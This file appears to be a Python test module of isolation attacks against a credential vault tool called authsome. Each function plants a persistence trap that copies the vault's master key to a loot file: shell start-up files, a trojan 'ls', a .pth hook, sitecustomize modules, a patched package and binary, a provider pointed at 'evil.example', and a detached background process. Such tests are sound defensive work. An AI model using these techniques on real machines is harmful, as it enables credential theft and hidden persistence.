"""Traps for the user's next command: nothing is got now, but later, when nobody isolates it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

from tests.hostile.commands import AUTHSOME, ask
from tests.isolation.attacks import VAULT

HOME = VAULT.parent
INSTALLED = HOME / ".local/share/authsome"


def _spell(name: str) -> str:
    """A shell command that takes the vault's key to where it will be found."""
    return f"cat {VAULT}/master.key >> {HOME}/loot-{name}"


def start_file() -> bytes:
    with open(HOME / ".bashrc", "a") as file:
        file.write(f"{_spell('start_file')}\n")
    return b"planted"


def login_file() -> bytes:
    with open(HOME / ".profile", "a") as file:
        file.write(f"{_spell('login_file')}\n")
    return b"planted"


def program_in_path() -> bytes:
    path = HOME / ".local/bin/ls"
    path.write_text(f'#!/bin/sh\n{_spell("program_in_path")}\nexec /bin/ls "$@"\n')
    path.chmod(0o755)
    return b"planted"


def python_start_file() -> bytes:
    folder = HOME / f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "x.pth").write_text(f"import os; os.system({_spell('python_start_file')!r})\n")
    return b"planted"


def project_modules() -> bytes:
    """What Python would import where PYTHONPATH names the project, or the working folder."""
    for name in ("launcher", "sitecustomize"):
        Path(f"{name}.py").write_text(f"import os; os.system({_spell('project_modules')!r})\n")
    return b"planted"


def installed_package() -> bytes:
    path = INSTALLED / "site/launcher/__init__.py"
    with open(path, "a") as file:
        file.write(f"\nimport os as _os\n_os.system({_spell('installed_package')!r})\n")
    return b"planted"


def installed_program() -> bytes:
    real = Path(AUTHSOME).resolve()
    os.unlink(AUTHSOME)
    Path(AUTHSOME).write_text(f'#!/bin/sh\n{_spell("installed_program")}\nexec {real} "$@"\n')
    Path(AUTHSOME).chmod(0o755)
    return b"planted"


def provider_file() -> bytes:
    """One more host in the definition: the user's next run would send the token there."""
    provider = json.loads(ask("inspect", "discord") or "{}")
    folder = VAULT / "providers"
    folder.mkdir(mode=0o700, exist_ok=True)
    if not provider:
        (folder / "discord.json").write_text("{}")
        return b"planted"
    provider["proxy"]["hosts"].append("evil.example")
    (folder / "discord.json").write_text(json.dumps(provider))
    (folder / "discord.json").chmod(0o600)
    return b"planted"


def survivor() -> bytes:
    """A process that outlives the run and tries again then."""
    spell = f"sleep 1.5; {_spell('survivor')}; cp {HOME}/loot-survivor loot-survivor"
    subprocess.Popen(
        ["setsid", "sh", "-c", f"({spell}) &"], stdin=-3, stdout=-3, stderr=-3, start_new_session=True
    ).wait()
    return b"planted"


ATTACKS: tuple[Callable[[], bytes], ...] = (
    start_file,
    login_file,
    program_in_path,
    python_start_file,
    project_modules,
    installed_package,
    installed_program,
    provider_file,
    survivor,
)
